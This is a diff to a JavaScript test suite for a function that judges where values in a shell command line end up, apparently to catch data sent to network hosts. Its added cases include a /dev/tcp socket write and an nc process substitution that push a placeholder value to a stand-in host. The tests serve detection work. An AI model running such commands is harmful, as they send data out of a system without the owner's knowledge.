@@ -24,6 +24,9 @@ describe('where the values of a command line lead', () => {
     ['cat > f <<E\nhttps://a.example/PPP\nPPP\nE', [['a.example'], []]],
     ['# https://a.example/PPP', [['a.example']]],
     ['echo x > /tmp/PPP', [[]]],
+    ['exec 3<>/dev/tcp/a.example/80; echo PPP >&3', ['unknown']],
+    ['tee >(nc a 1) <<< PPP', ['unknown']],
+    ['diff <(echo PPP) f', [[]]],
   ])('%s', (line, expected) => {
     expect(judge(line)).toEqual(expected);
   });
